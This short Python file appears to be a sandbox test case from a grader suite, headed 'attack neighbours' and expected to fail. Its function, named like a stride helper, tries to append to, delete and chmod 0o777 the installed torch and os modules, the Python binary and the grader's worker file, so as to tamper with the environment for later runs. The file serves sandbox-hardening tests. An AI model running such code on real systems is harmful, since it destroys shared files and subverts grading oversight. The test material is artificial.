# Class: attack neighbours
# Tries: to rewrite torch, Python or the grader's worker on the disk, for whoever comes next.
# Must: failed
import os
import sys

import torch


def contiguous_strides(shape):
    changed = []
    worker = sys.modules["grader.worker.codec"].__file__
    for path in (torch.__file__, os.__file__, worker, sys.executable, os.path.dirname(worker) + "/left_by_an_attack"):
        for action in (lambda p: open(p, "ab").close(), os.unlink, lambda p: os.chmod(p, 0o777)):
            try:
                action(path)
                changed.append(path)
            except OSError:
                pass
    return changed
